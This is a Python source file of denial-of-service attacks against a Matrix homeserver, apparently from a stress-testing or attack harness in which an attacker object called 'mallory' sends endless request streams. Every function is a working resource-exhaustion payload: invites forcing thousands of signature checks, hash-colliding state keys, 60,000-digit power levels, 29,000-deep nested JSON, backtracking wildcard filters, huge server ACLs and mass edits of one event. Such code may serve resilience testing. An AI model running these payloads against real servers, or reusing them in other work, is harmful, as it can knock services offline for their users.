"""Attacks on the server's processor time."""

import base64
import itertools
import json
import random
import time

from attacks.mallory import CONTENT, send_path, state_path
from attacks.registry import attack
from matrix import V3, quote


@attack
def third_party_signatures(mallory):
    """An invitation that makes the server try 350 signatures with 900 keys, eleven seconds each time."""
    def key():
        return base64.b64encode(random.randbytes(32)).decode().rstrip("=")

    def signature():
        return base64.b64encode(random.randbytes(64)).decode().rstrip("=")

    room = mallory.room(room_version="11")
    keys = [{"public_key": key()} for _ in range(900)]
    token = {"display_name": "b", "key_validity_url": "https://a", "public_key": key(), "public_keys": keys}
    mallory.state(room, "m.room.third_party_invite", token, "token")
    for number in itertools.count():
        signed = {"mxid": f"@bob{number}:{mallory.server_name}", "token": "token",
                  "signatures": {f"s{n}": {f"ed25519:{n}": signature()} for n in range(350)}}
        content = {"membership": "invite", "third_party_invite": {"display_name": "b", "signed": signed}}
        yield "PUT", state_path(room, "m.room.member", signed["mxid"]), json.dumps(content).encode()


@attack
def colliding_state_keys(mallory):
    """State keys with the same hash, so that each look-up searches through all of them."""
    room = mallory.room()
    for number in itertools.count():
        key = "".join("Aa" if number >> bit & 1 else "BB" for bit in range(14))
        yield "PUT", state_path(room, "org.collide", key), b"{}"


@attack
def levels_of_many_digits(mallory):
    """Power levels of 60,000 digits, which are read for every message of the room."""
    room = mallory.room(room_version="9")
    levels = {"users": {mallory.me.user_id: 100}, "events_default": "-" + "9" * CONTENT}
    mallory.state(room, "m.room.power_levels", levels)
    for number in itertools.count():
        yield "PUT", send_path(room, number), b'{"msgtype":"m.text","body":"a"}'


@attack
def levels_of_many_users(mallory):
    """Power levels that name two thousand users, changed again and again."""
    room = mallory.room()
    users = {f"@{n}:{mallory.server_name}": n % 50 for n in range(1_400)}
    for number in itertools.count():
        content = {"users": dict(users, **{mallory.me.user_id: 100, "@0:a": number % 50}), "users_default": number % 9}
        yield "PUT", state_path(room, "m.room.power_levels"), json.dumps(content).encode()
        yield "PUT", send_path(room, number), b'{"msgtype":"m.text","body":"a"}'


@attack
def deep_and_wide_content(mallory):
    """Content of tens of thousands of keys to sort, or of brackets to descend into."""
    room = mallory.room()
    wide = json.dumps({format(random.randrange(1 << 40), "x"): 0 for _ in range(3_500)}).encode()
    deep = b'{"a":' + b"[" * 29_000 + b"]" * 29_000 + b"}"
    for number in itertools.count():
        yield "PUT", send_path(room, number), deep if number % 2 else wide


@attack
def filters_that_backtrack(mallory):
    """Patterns with many stars, tried on long types."""
    room, long_type = mallory.room(), "a" * 250
    mallory.do("PUT", send_path(room, 0, long_type), {})
    stars = ["*a" * 60 + "b"] * 500
    choice = quote(json.dumps({"room": {"timeline": {"types": stars}, "state": {"types": stars}}}))
    for number in itertools.count():
        yield "PUT", send_path(room, number, long_type), b"{}"
        yield "GET", f"{V3}/sync?timeout=0&filter={choice[:60_000]}", b""


@attack
def acl_of_many_patterns(mallory):
    """Server ACLs of thousands of patterns, which are read for each event."""
    room = mallory.room()
    rules = {"allow": ["*"], "deny": ["*a*" * 5 + str(n) for n in range(2_500)]}
    mallory.state(room, "m.room.server_acl", rules)
    for number in itertools.count():
        yield "PUT", send_path(room, number), b'{"msgtype":"m.text","body":"a"}'


@attack
def edits_of_one_event(mallory):
    """One event with thousands of edits, which is requested all the time."""
    room = mallory.room()
    first = mallory.do("PUT", send_path(room, 0), {"msgtype": "m.text", "body": "a"})["event_id"]
    edit = json.dumps({"msgtype": "m.text", "body": "b" * 10_000, "m.new_content": {"msgtype": "m.text", "body": "c"},
                       "m.relates_to": {"rel_type": "m.replace", "event_id": first}}).encode()
    for number in itertools.count():
        yield "PUT", send_path(room, number), edit
        yield "GET", f"{V3}/rooms/{quote(room)}/event/{quote(first)}", b""
